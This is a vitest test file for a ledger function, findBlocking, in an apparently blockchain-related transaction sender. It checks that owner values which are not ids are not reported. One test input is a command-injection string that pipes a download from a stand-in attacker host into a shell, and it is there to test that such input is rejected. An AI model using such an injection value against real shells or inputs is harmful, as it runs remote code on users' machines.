import { expect, test } from 'vitest'
import { openSenderParts } from '../../../../test/support/senderParts.js'
import * as Item from '../ledger/Item.js'
import { findBlocking } from './findBlocking.js'

// The answer becomes part of a command that users copy into a shell.
test.each(['x; curl evil.example | sh', 'external', 'filler'])(
  'an owner that is not an id is not reported: %s',
  async (owner) => {
    const parts = await openSenderParts()
    const { transactionId } = await parts.newSender().send(parts.request('one'))
    const { ledger, account } = parts
    const now = parts.runtime.now() + 3_600_000
    const find = () =>
      findBlocking(
        {
          ...{ ledger, account, rpc: parts.node.rpc },
          balance: Promise.resolve(10n ** 18n),
        },
        { deadline: now, now },
      )
    expect(await find()).toMatchObject({ transaction_id: transactionId })
    for (const item of parts.table.items.values())
      if ('claim' in item && 'raw' in item)
        Object.assign(item, Item.write({ owner }))
    expect(await find()).toMatchObject({ nonce: 0, transaction_id: null })
  },
)
